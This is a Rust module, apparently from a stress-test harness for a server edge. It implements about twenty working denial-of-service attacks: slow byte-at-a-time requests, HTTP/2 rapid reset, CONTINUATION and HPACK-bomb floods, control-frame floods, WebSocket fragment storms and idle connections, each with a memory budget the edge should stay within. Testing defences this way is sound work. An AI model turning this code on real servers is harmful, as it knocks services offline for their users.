//! The attacks, each as one stranger with some connections would do it. A connection that the edge ends is dialled
//! again at once, so an attack goes on until it is dropped.

use super::ground::{
    CONTINUATION, DATA, END_HEADERS, Ground, HEADERS, HELLO, PING, PRIORITY, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, frame, literal, request, string,
};
use bytes::{BufMut, BytesMut};
use futures::future::BoxFuture;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite};
use tokio::task::JoinSet;

/// One way to do harm.
pub(crate) struct Attack {
    pub(crate) name: &'static str,
    /// Connections at a time.
    pub(crate) connections: usize,
    /// What the edge may need for it, in KiB above what it had before: a generous multiple of what its own limits admit.
    pub(crate) memory: u64,
    /// One connection's life. `None` when the edge ended it.
    once: fn(Ground) -> BoxFuture<'static, Option<()>>,
}

/// From the table: what it is called, how many connections, KiB.
macro_rules! attacks {
    ($($name:literal, $connections:literal, $memory:literal, $once:path;)*) => {
        &[$(Attack { name: $name, connections: $connections, memory: $memory, once: |ground| Box::pin($once(ground)) }),*]
    };
}

pub(crate) const ATTACKS: &[Attack] = attacks![
    "heads a byte at a time (HTTP/1.1)", 400, 32_768, slow_heads;
    "TLS hellos a byte at a time", 400, 32_768, slow_hellos;
    "HTTP/2 frames a byte at a time", 400, 49_152, slow_frames;
    "rapid reset", 8, 32_768, rapid_reset;
    "rapid reset by errors of the stream", 8, 32_768, made_you_reset;
    "CONTINUATION without end", 8, 32_768, continuation;
    "HPACK bomb", 8, 32_768, hpack_bomb;
    "PING flood, answers unread", 8, 32_768, pings;
    "SETTINGS flood, answers unread", 8, 32_768, settings;
    "PRIORITY flood", 8, 32_768, priorities;
    "WINDOW_UPDATE flood", 8, 32_768, window_updates;
    "empty DATA frames", 8, 32_768, empty_data;
    "WebSocket fragments of a byte", 8, 32_768, fragments;
    "WebSocket fragments of nothing", 8, 32_768, empty_fragments;
    "WebSocket ping storm", 8, 32_768, websocket_pings;
    "compressed WebSocket messages", 8, 32_768, compressed;
    "bodies nobody reads", 8, 65_536, unread_bodies;
    "tokens nobody knows", 8, 49_152, unknown_tokens;
    "a reader that stopped", 1, 32_768, stopped_reader;
    "a greedy token", 1, 32_768, greedy_token;
    "connections that say nothing", 400, 32_768, silent;
];

impl Attack {
    /// Runs until it is dropped.
    pub(crate) async fn run(&self, ground: Ground) {
        let mut strangers = JoinSet::new();
        for _ in 0..self.connections {
            let (ground, once) = (ground.clone(), self.once);
            strangers.spawn(async move {
                loop {
                    once(ground.clone()).await;
                    // A refused dial comes back at once; this thread serves others as well.
                    tokio::task::yield_now().await;
                }
            });
        }
        while strangers.join_next().await.is_some() {}
    }
}

/// Sends `bytes` one by one, ten a second.
async fn slowly(ground: &Ground, io: &mut (impl AsyncRead + AsyncWrite + Unpin), bytes: &[u8]) -> Option<()> {
    let mut every = tokio::time::interval(Duration::from_millis(100));
    for byte in bytes.iter().cycle() {
        every.tick().await;
        ground.send(io, &[*byte]).await?;
    }
    Some(())
}

async fn slow_heads(ground: Ground) -> Option<()> {
    let mut tcp = ground.tcp().await?;
    ground.send(&mut tcp, b"GET /api/v1/pods HTTP/1.1\r\nHost: h\r\nX: ").await?;
    slowly(&ground, &mut tcp, b"a").await
}

async fn slow_hellos(ground: Ground) -> Option<()> {
    let mut tcp = ground.bare().await?;
    ground.send(&mut tcp, b"\x16\x03\x01\x3f\x00\x01\x00\x3e\xfc\x03\x03").await?;
    slowly(&ground, &mut tcp, b"a").await
}

async fn slow_frames(ground: Ground) -> Option<()> {
    let mut tcp = ground.tcp().await?;
    ground.send(&mut tcp, HELLO).await?;
    // The head of a HEADERS frame that says 16 KiB follow.
    ground.send(&mut tcp, b"\x00\x40\x00\x01\x04\x00\x00\x00\x01").await?;
    slowly(&ground, &mut tcp, &[0]).await
}

/// Writes `chunk` over and over, made anew each time, and reads what comes back, or nothing.
async fn flood(
    ground: &Ground,
    io: impl AsyncRead + AsyncWrite + Unpin,
    reads: bool,
    mut chunk: impl FnMut(&mut BytesMut),
) -> Option<()> {
    let (mut read, mut write) = tokio::io::split(io);
    ground.send(&mut write, HELLO).await?;
    let writing = async {
        let mut bytes = BytesMut::new();
        loop {
            bytes.clear();
            chunk(&mut bytes);
            ground.send(&mut write, &bytes).await?;
            tokio::task::yield_now().await;
        }
    };
    let reading = async {
        if !reads {
            std::future::pending::<()>().await;
        }
        let mut answers = [0; 4096];
        while read.read(&mut answers).await.is_ok_and(|read| read > 0) {}
    };
    tokio::select! {
        ended = writing => ended,
        () = reading => None,
    }
}

/// Stream ids as a client gives them out.
fn streams() -> impl FnMut() -> u32 {
    let mut next: u32 = 1;
    move || {
        let now = next;
        next = next.wrapping_add(2) & 0x7fff_ffff;
        now
    }
}

async fn rapid_reset(ground: Ground) -> Option<()> {
    let tls = ground.tls().await?;
    let (block, mut id) = (request("Bearer rapid"), streams());
    flood(&ground, tls, true, |out| {
        for _ in 0..50 {
            let stream = id();
            frame(out, HEADERS, END_HEADERS, stream, &block);
            frame(out, RST_STREAM, 0, stream, &8u32.to_be_bytes());
        }
    })
    .await
}

/// The same, but the edge is made to reset: a WINDOW_UPDATE of nothing is an error of its stream.
async fn made_you_reset(ground: Ground) -> Option<()> {
    let tcp = ground.tcp().await?;
    let (block, mut id) = (request("Bearer made"), streams());
    flood(&ground, tcp, true, |out| {
        for _ in 0..50 {
            let stream = id();
            frame(out, HEADERS, END_HEADERS, stream, &block);
            frame(out, WINDOW_UPDATE, 0, stream, &0u32.to_be_bytes());
        }
    })
    .await
}

async fn continuation(ground: Ground) -> Option<()> {
    let tcp = ground.tcp().await?;
    let mut begun = false;
    flood(&ground, tcp, true, |out| {
        if !std::mem::replace(&mut begun, true) {
            frame(out, HEADERS, 0, 1, &request("Bearer long"));
        }
        for index in 0..50 {
            let mut block = BytesMut::new();
            literal(&mut block, &format!("x-{index}"), "y");
            frame(out, CONTINUATION, 0, 1, &block);
        }
    })
    .await
}

/// One entry that fills the decoder's table, then blocks that refer to it thousands of times.
async fn hpack_bomb(ground: Ground) -> Option<()> {
    let tcp = ground.tcp().await?;
    let mut id = streams();
    flood(&ground, tcp, true, |out| {
        let mut block = request("Bearer bomb");
        block.put_u8(0x40); // literal with incremental indexing
        string(&mut block, "x-bomb");
        string(&mut block, &"b".repeat(4000));
        block.put_bytes(0xbe, 8000); // index 62, as often as fits
        frame(out, HEADERS, END_HEADERS, id(), &block);
    })
    .await
}

async fn pings(ground: Ground) -> Option<()> {
    let tcp = ground.tcp().await?;
    flood(&ground, tcp, false, |out| {
        for _ in 0..200 {
            frame(out, PING, 0, 0, b"12345678");
        }
    })
    .await
}

async fn settings(ground: Ground) -> Option<()> {
    let tcp = ground.tcp().await?;
    flood(&ground, tcp, false, |out| {
        for _ in 0..200 {
            frame(out, SETTINGS, 0, 0, b"\x00\x04\x00\x00\xff\xff");
        }
    })
    .await
}

async fn priorities(ground: Ground) -> Option<()> {
    let tcp = ground.tcp().await?;
    let mut id = streams();
    flood(&ground, tcp, true, |out| {
        for _ in 0..200 {
            frame(out, PRIORITY, 0, id() + 2, &[0, 0, 0, 1, 16]);
        }
    })
    .await
}

async fn window_updates(ground: Ground) -> Option<()> {
    let tcp = ground.tcp().await?;
    let mut begun = false;
    flood(&ground, tcp, true, |out| {
        if !std::mem::replace(&mut begun, true) {
            frame(out, HEADERS, END_HEADERS, 1, &request("Bearer window"));
        }
        for _ in 0..200 {
            frame(out, WINDOW_UPDATE, 0, 1, &1u32.to_be_bytes());
        }
    })
    .await
}

async fn empty_data(ground: Ground) -> Option<()> {
    let tls = ground.tls().await?;
    let mut begun = false;
    flood(&ground, tls, true, |out| {
        if !std::mem::replace(&mut begun, true) {
            frame(out, HEADERS, END_HEADERS, 1, &request("Bearer empty"));
        }
        for _ in 0..200 {
            frame(out, DATA, 0, 1, &[]);
        }
    })
    .await
}

/// Masked WebSocket frames with a key of zeros: the payload stands as it is.
fn ws_frame(out: &mut BytesMut, first: u8, payload: &[u8]) {
    out.put_u8(first);
    out.put_u8(0x80 | payload.len() as u8);
    out.put_u32(0);
    out.put_slice(payload);
}

/// Writes raw WebSocket frames for ever; `begin` says how the message begins.
async fn ws_flood(ground: &Ground, begin: &[u8], chunk: impl Fn(&mut BytesMut)) -> Option<()> {
    let tcp = ground.websocket().await?;
    let (mut read, mut write) = tcp.into_split();
    let mut bytes = BytesMut::new();
    ws_frame(&mut bytes, 0x02, begin);
    ground.send(&mut write, &bytes).await?;
    let writing = async {
        loop {
            bytes.clear();
            chunk(&mut bytes);
            ground.send(&mut write, &bytes).await?;
            tokio::task::yield_now().await;
        }
    };
    let mut answers = [0; 4096];
    let reading = async { while read.read(&mut answers).await.is_ok_and(|read| read > 0) {} };
    tokio::select! {
        ended = writing => ended,
        () = reading => None,
    }
}

/// HTTP/2 pings, each byte a frame of its own.
async fn fragments(ground: Ground) -> Option<()> {
    let mut ping = BytesMut::new();
    frame(&mut ping, PING, 0, 0, b"12345678");
    ws_flood(&ground, HELLO, |out| {
        for _ in 0..20 {
            for byte in &ping {
                ws_frame(out, 0x00, &[*byte]);
            }
        }
    })
    .await
}

async fn empty_fragments(ground: Ground) -> Option<()> {
    ws_flood(&ground, HELLO, |out| (0..500).for_each(|_| ws_frame(out, 0x00, &[]))).await
}

async fn websocket_pings(ground: Ground) -> Option<()> {
    ws_flood(&ground, HELLO, |out| (0..200).for_each(|_| ws_frame(out, 0x89, &[7; 125]))).await
}

/// A message that says it is compressed, which was never agreed on.
async fn compressed(ground: Ground) -> Option<()> {
    let mut tcp = ground.websocket().await?;
    let mut bytes = BytesMut::new();
    ws_frame(&mut bytes, 0x82 | 0x40, &[0; 125]);
    for _ in 0..100 {
        ground.send(&mut tcp, &bytes).await?;
    }
    let mut answer = [0; 1024];
    while tcp.read(&mut answer).await.ok()? > 0 {}
    None
}

/// As much as the windows admit, to streams whose broker reads nothing.
async fn unread_bodies(ground: Ground) -> Option<()> {
    let mut tunnel = ground.tunnel().await?;
    let mut bytes = BytesMut::from(HELLO);
    for stream in 0..100u32 {
        let mut block = BytesMut::new();
        block.put_slice(&[0x83, 0x86]);
        literal(&mut block, ":path", "/stall");
        literal(&mut block, ":authority", "kas.example.com");
        literal(&mut block, "content-type", "application/grpc");
        literal(&mut block, "te", "trailers");
        literal(&mut block, "authorization", "Bearer unread");
        frame(&mut bytes, HEADERS, END_HEADERS, 2 * stream + 1, &block);
    }
    // The windows that every HTTP/2 connection begins with.
    for stream in 0..4u32 {
        frame(&mut bytes, DATA, 0, 2 * stream + 1, &[0; 16_000]);
    }
    ground.send(&mut tunnel, &bytes).await?;
    let mut answer = [0; 4096];
    while tunnel.read(&mut answer).await.ok()? > 0 {}
    None
}

/// Each request with another token, as fast as they are answered.
async fn unknown_tokens(ground: Ground) -> Option<()> {
    static COUNT: AtomicU64 = AtomicU64::new(0);
    ask(&ground, "/unknown", || format!("Bearer unknown-{}", COUNT.fetch_add(1, Ordering::Relaxed))).await
}

/// Eight calls at a time on one connection, one after the other.
async fn ask(ground: &Ground, path: &str, token: impl Fn() -> String) -> Option<()> {
    let tcp = ground.tcp().await?;
    let (client, connection) = h2::client::handshake(tcp).await.ok()?;
    let driven = tokio::spawn(connection);
    let one = || async {
        loop {
            let request = http::Request::post(format!("http://kas.example.com{path}"))
                .header("content-type", "application/grpc")
                .header("te", "trailers")
                .header("authorization", token())
                .body(())
                .unwrap();
            let mut ready = client.clone().ready().await.ok()?;
            let (response, _body) = ready.send_request(request, true).ok()?;
            ground.sent(200);
            response.await.ok()?;
        }
    };
    let ended: Option<()> = futures::future::select_all((0..8).map(|_| Box::pin(one()))).await.0;
    driven.abort();
    ended
}

/// Sends as much as it may, and reads none of the echo.
async fn stopped_reader(ground: Ground) -> Option<()> {
    let tls = ground.tls().await?;
    let (client, connection) = h2::client::handshake(tls).await.ok()?;
    let driven = tokio::spawn(connection);
    let request = http::Request::post("http://kas.example.com/echo.Echo/Echo")
        .header("content-type", "application/grpc")
        .header("authorization", "Bearer stopped")
        .body(())
        .unwrap();
    let (response, mut out) = client.clone().ready().await.ok()?.send_request(request, false).ok()?;
    let sending = async {
        let _unread = response.await.ok()?;
        loop {
            out.reserve_capacity(16_384);
            let admitted = std::future::poll_fn(|cx| out.poll_capacity(cx)).await?.ok()?;
            out.send_data(bytes::Bytes::from(vec![0; admitted]), false).ok()?;
            ground.sent(admitted);
        }
    };
    let ended = sending.await;
    driven.abort();
    ended
}

/// One good token that asks as fast as it is answered.
async fn greedy_token(ground: Ground) -> Option<()> {
    ask(&ground, "/echo.Echo/Echo", || "Bearer greedy".to_owned()).await
}

async fn silent(ground: Ground) -> Option<()> {
    let mut tcp = ground.tcp().await?;
    let mut answer = [0; 1024];
    while tcp.read(&mut answer).await.ok()? > 0 {}
    None
}
